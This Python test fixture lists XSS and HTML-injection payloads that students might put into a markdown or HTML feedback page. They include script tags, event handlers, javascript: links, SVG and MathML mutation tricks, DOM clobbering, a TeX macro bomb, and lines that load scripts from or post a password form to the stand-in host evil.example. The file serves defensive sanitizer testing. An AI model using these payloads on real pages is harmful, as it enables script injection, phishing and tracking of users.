"""What students have tried, or could, to make a feedback page do something. Each entry is markdown and HTML alike."""

import base64

EVIL = "https://evil.example"
SVG_WITH_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="alert(1)"><script>alert(1)</script>'
    f'<image href="{EVIL}/svg.png"/><style>@import url({EVIL}/svg.css);</style></svg>'
)


def svg_uri() -> str:
    return f"data:image/svg+xml;base64,{base64.b64encode(SVG_WITH_SCRIPT.encode()).decode()}"


HTML = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": f'<script src="{EVIL}/a.js"></script>',
    "handler": '<img src="x" onerror="alert(1)"><body onload=alert(1)><p onmouseover="alert(1)" onclick=alert(1)>p</p>',
    "details handler": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "svg": SVG_WITH_SCRIPT,
    "svg animation": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg in an image": f'<img src="{svg_uri()}" alt="a picture">',
    "iframe": f'<iframe src="{EVIL}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x"><applet code=x></applet>',
    "cover": '<div style="position:fixed;inset:0;background:red;z-index:9">You have full marks</div>',
    "style sheet": f"<style>*{{display:none}} body{{background:url({EVIL}/bg.png)}}</style>",
    "link": f'<link rel="stylesheet" href="{EVIL}/a.css"><link rel="prefetch" href="{EVIL}/b">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "base": f'<base href="{EVIL}/">',
    "form": f'<form action="{EVIL}"><input name="password" autofocus><button>Log in</button></form>',
    "javascript link": '<a href="javascript:alert(1)">a</a><a href="java&#10;script:alert(1)">b</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">c</a>',
    "file link": '<a href="../../grace/07_demo/07_demo.html">d</a><a href="file:///etc/passwd">e</a>',
    "remote image": f'<img src="{EVIL}/pixel.png" srcset="{EVIL}/2x.png 2x"><img src="//evil.example/x.png">',
    "media": f'<video src="{EVIL}/v" autoplay></video><audio src="{EVIL}/a" autoplay></audio>',
    "background": f'<table background="{EVIL}/t.png"><tr><td background="{EVIL}/d.png">x</td></tr></table>',
    "math link": '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math action": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>",
    "math annotation": '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "math moved": '<math><mpadded lspace="-900px" voffset="900px"><mtext>covered</mtext></mpadded></math>',
    "math wide": '<math><mspace width="-900px"/><mtext>covered</mtext><mspace width="99999px"/></math>',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment mutation": "<!--><img src=x onerror=alert(1)>-->",
    "textarea": "<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>",
    "open tags": "</div></div></section></main></body></html><div><table><tr><td><b><i>",
    "clobbering": '<a id="cell-1" name="cell-1">x</a><img name="body" id="exercises"><p class="score">100</p>',
    "template": "{{ 7 * 191 }} {% include '/etc/passwd' %}",
    "huge image": f'<img width="99999" height="99999" src="{svg_uri()}">',
}

MARKDOWN = {
    "javascript link": "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "remote image": f"![a]({EVIL}/pixel.png) ![b](attachment:none.png)",
    "reference": f'[x]: {EVIL}/x.png "onerror=alert(1)"\n\n![x]',
    "title": "[a](https://example.org 'x\" onmouseover=\"alert(1)')",
    "code fence": "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "math link": r"$\href{javascript:alert(1)}{x}$ $\class{score}{x}$ $\style{position:fixed}{x}$",
    "math text": r"$\text{<script>alert(1)</script><img src=x onerror=alert(1)>}$",
    "math color": rf"$\color{{red;background:url({EVIL}/c)}}{{x}}$",
    "math bomb": r"$\def\a{xx}\def\b{\a\a}\def\c{\b\b}\def\d{\c\c}\def\e{\d\d}\e$",
}
